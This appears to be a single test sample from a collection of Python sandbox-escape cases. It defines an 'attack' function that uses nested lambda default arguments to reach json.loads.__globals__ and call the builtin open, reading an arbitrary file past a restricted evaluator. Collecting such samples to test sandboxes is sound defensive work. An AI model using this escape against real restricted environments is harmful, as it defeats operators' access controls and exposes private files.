# A default of a lambda within a default.
# after: read
# source: own
import json
def attack(path, f=(lambda x=(lambda: json.loads.__globals__)(): x), **_):
    return {"text": f()["__builtins__"]["open"](path).read()}
